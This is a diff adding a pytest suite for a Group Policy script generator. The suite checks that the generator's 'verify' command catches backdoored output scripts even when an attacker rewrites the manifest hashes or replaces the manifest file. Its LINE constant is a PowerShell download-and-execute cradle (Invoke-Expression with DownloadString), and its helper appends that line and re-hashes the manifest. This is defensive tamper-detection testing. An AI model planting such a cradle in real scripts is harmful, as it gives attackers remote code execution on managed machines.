@@ -1,0 +1,197 @@
+"""No change of what lies in or around an output folder leads ``verify`` past a changed script."""
+
+from __future__ import annotations
+
+import hashlib
+import json
+import os
+import shutil
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+
+from gpogen.project.tree import MANIFEST
+from tests.cli.conftest import Run, Workplace
+
+LINE = b"Invoke-Expression (New-Object Net.WebClient).DownloadString('http://x')\r\n"
+FILES = (
+    "powershell/Set-Web.ps1",
+    "powershell/Import-WebGpo.ps1",
+    "sconfig/Set-UpdateMode.ps1",
+    "sconfig/Set-UpdateMode.cmd",
+    "README.txt",
+    "reg/web.reg",
+    "reg/web-undo.reg",
+    "lgpo/web.txt",
+    "machine/registry.pol",
+)
+
+
+@pytest.fixture
+def built(place: Workplace, gpogen: Run) -> Workplace:
+    place.profile("web")
+    place.profile("db")
+    assert gpogen("build").code == 0
+    return place
+
+
+def refresh(folder: Path) -> None:
+    """Write the right SHA-256 of every file into the manifest, as an attacker would."""
+    content = json.loads((folder / MANIFEST).read_text(encoding="utf-8"))
+    for path, entry in content["files"].items():
+        entry["sha256"] = hashlib.sha256((folder / path).read_bytes()).hexdigest()
+    (folder / MANIFEST).write_text(json.dumps(content, indent=1, sort_keys=True) + "\n")
+
+
+def backdoor(folder: Path, path: str = FILES[0]) -> None:
+    data = (folder / path).read_bytes()
+    (folder / path).write_bytes(data + LINE)
+    refresh(folder)
+
+
+def manifest_gone(folder: Path) -> None:
+    (folder / MANIFEST).unlink()
+
+
+def manifest_a_pipe(folder: Path) -> None:
+    (folder / MANIFEST).unlink()
+    os.mkfifo(folder / MANIFEST)
+
+
+def manifest_a_link(folder: Path) -> None:
+    (folder / MANIFEST).rename(folder.parent / "elsewhere.json")
+    (folder / MANIFEST).symlink_to("../elsewhere.json")
+
+
+def manifest_a_folder(folder: Path) -> None:
+    (folder / MANIFEST).unlink()
+    (folder / MANIFEST).mkdir()
+
+
+def script_not_listed(folder: Path) -> None:
+    content = json.loads((folder / MANIFEST).read_text(encoding="utf-8"))
+    del content["files"][FILES[0]]
+    (folder / MANIFEST).write_text(json.dumps(content), encoding="utf-8")
+
+
+def artefact_not_listed(folder: Path) -> None:
+    """Leave every script out of the manifest, so that no artefact of a script is there."""
+    content = json.loads((folder / MANIFEST).read_text(encoding="utf-8"))
+    for path in [path for path in content["files"] if path.endswith((".ps1", ".cmd"))]:
+        del content["files"][path]
+    (folder / MANIFEST).write_text(json.dumps(content), encoding="utf-8")
+
+
+def another_version(folder: Path) -> None:
+    content = json.loads((folder / MANIFEST).read_text(encoding="utf-8"))
+    content["gpogen"] = "9.9.9"
+    (folder / MANIFEST).write_text(json.dumps(content), encoding="utf-8")
+
+
+def another_state(folder: Path) -> None:
+    content = json.loads((folder / MANIFEST).read_text(encoding="utf-8"))
+    content["digest"] = "0" * 64
+    (folder / MANIFEST).write_text(json.dumps(content), encoding="utf-8")
+
+
+def another_profile(folder: Path) -> None:
+    content = json.loads((folder / MANIFEST).read_text(encoding="utf-8"))
+    content["profile"] = "db"
+    (folder / MANIFEST).write_text(json.dumps(content), encoding="utf-8")
+
+
+def nothing_else(folder: Path) -> None:
+    del folder
+
+
+CHANGES = (
+    nothing_else,
+    manifest_gone,
+    manifest_a_pipe,
+    manifest_a_link,
+    manifest_a_folder,
+    script_not_listed,
+    artefact_not_listed,
+    another_version,
+    another_state,
+    another_profile,
+)
+
+
+@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="there are no pipes here")
+@pytest.mark.parametrize(
+    "arguments",
+    [
+        ("output/web",),
+        ("output/web", "--profile", "profiles/web.yaml"),
+        ("output",),
+        (".",),
+    ],
+    ids=" ".join,
+)
+@pytest.mark.parametrize("change", CHANGES, ids=lambda change: change.__name__)
+def test_a_changed_script_is_found_whatever_is_done_to_the_manifest(
+    built: Workplace, gpogen: Run, change: Callable[[Path], None], arguments: tuple[str, ...]
+) -> None:
+    backdoor(built.output / "web")
+    change(built.output / "web")
+
+    answer = gpogen("verify", *arguments)
+
+    assert answer.code in (1, 2)
+    assert "output/web" in answer.out + answer.err
+
+
+@pytest.mark.parametrize("path", FILES)
+def test_a_line_more_in_any_file_is_found_though_the_manifest_is_right(
+    built: Workplace, gpogen: Run, path: str
+) -> None:
+    backdoor(built.output / "web", path)
+
+    answer = gpogen("verify", "output/web")
+
+    assert answer.code == 1
+    assert f"{path} differs" in answer.out
+
+
+@pytest.mark.parametrize("arguments", [("output/web",), ("output",), (".",)])
+def test_without_the_profile_verify_says_that_scripts_were_not_judged(
+    built: Workplace, gpogen: Run, arguments: tuple[str, ...]
+) -> None:
+    shutil.rmtree(built.root / "profiles")
+
+    answer = gpogen("verify", *arguments)
+
+    assert answer.code == 1
+    assert "not judged, scripts and texts among them" in answer.out
+
+
+def test_backups_beside_an_output_folder_are_verified_too(built: Workplace, gpogen: Run) -> None:
+    backup = next((built.output / "web/gpo").glob("{*}"))
+    copy = built.output / "from-elsewhere" / backup.name
+    shutil.copytree(backup, copy)
+    (copy / "Backup.xml").write_text("<GroupPolicyBackupScheme/>", encoding="utf-8")
+
+    answer = gpogen("verify", "output")
+
+    assert answer.code != 0
+    assert "from-elsewhere" in answer.out + answer.err
+
+
+def test_the_backup_of_an_output_folder_can_be_verified_alone(
+    built: Workplace, gpogen: Run
+) -> None:
+    (built.output / "web" / MANIFEST).unlink()
+
+    assert gpogen("verify", "output/web/gpo").code == 0
+
+
+def test_a_folder_is_found_from_above_with_all_that_lies_in_it(
+    built: Workplace, gpogen: Run
+) -> None:
+    answer = gpogen("verify", str(built.root))
+
+    assert answer.code == 0
+    assert answer.err == "2 folders verified, 0 with problems\n"
+    assert "as the profile makes them" in answer.out
